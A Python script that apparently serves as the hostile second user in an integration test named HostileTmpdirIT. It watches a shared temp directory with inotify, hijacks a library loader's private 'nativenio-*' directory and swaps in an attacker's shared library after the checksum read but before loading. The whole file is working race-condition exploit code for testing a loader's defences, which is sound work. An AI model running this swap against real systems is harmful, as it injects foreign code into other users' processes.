"""The other user of HostileTmpdirIT: swaps nativenio's private directory in a shared temp directory.

Usage: tmpdir-swapper.py DIR LIBRARY. Watches DIR (inotify(7), through ctypes) for a new directory named
nativenio-*; renames it away and puts a directory of its own under the same name. A writer that opens the
library file by name then writes into the attacker's directory; as soon as the file has been read back
(IN_CLOSE_NOWRITE: the checksum), LIBRARY is renamed over it, before the reader opens it again to load it.
Prints "ready" once the watch is in place, then one line per step.
"""
import ctypes
import os
import shutil
import struct
import sys

IN_CLOSE_NOWRITE = 0x10
IN_CREATE = 0x100
IN_ISDIR = 0x40000000
EVENT = struct.Struct("iIII")  # struct inotify_event without its name

libc = ctypes.CDLL(None, use_errno=True)
libc.inotify_add_watch.argtypes = (ctypes.c_int, ctypes.c_char_p, ctypes.c_uint32)


def watch(fd, path, mask):
    wd = libc.inotify_add_watch(fd, path.encode(), mask)
    if wd < 0:
        raise OSError(ctypes.get_errno(), "inotify_add_watch " + path)
    return wd


def main(shared, library):
    fd = libc.inotify_init1(0)
    if fd < 0:
        raise OSError(ctypes.get_errno(), "inotify_init1")
    top = watch(fd, shared, IN_CREATE)
    print("ready", flush=True)
    planted = {}  # watch descriptor -> the attacker's directory
    own = set()  # names of the attacker's directories whose creation event is still to come
    count = 0
    while True:
        events = os.read(fd, 65536)
        at = 0
        while at < len(events):
            wd, mask, _, length = EVENT.unpack_from(events, at)
            name = events[at + EVENT.size:at + EVENT.size + length].rstrip(b"\0").decode()
            at += EVENT.size + length
            try:
                if wd == top and name in own:
                    own.remove(name)
                elif wd == top and mask & IN_ISDIR and name.startswith("nativenio-"):
                    count += 1
                    path = os.path.join(shared, name)
                    os.rename(path, os.path.join(shared, ".stolen-%d" % count))
                    own.add(name)
                    os.mkdir(path)
                    os.chmod(path, 0o777)
                    planted[watch(fd, path, IN_CLOSE_NOWRITE)] = path
                    shutil.copyfile(library, os.path.join(path, ".planted"))
                    print("swapped " + name, flush=True)
                elif wd in planted and mask & IN_CLOSE_NOWRITE and name == "libnativenio.so":
                    path = planted.pop(wd)
                    os.rename(os.path.join(path, ".planted"), os.path.join(path, name))
                    print("replaced " + os.path.basename(path), flush=True)
            except OSError as e:
                print("missed %s: %s" % (name, e), flush=True)


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2])
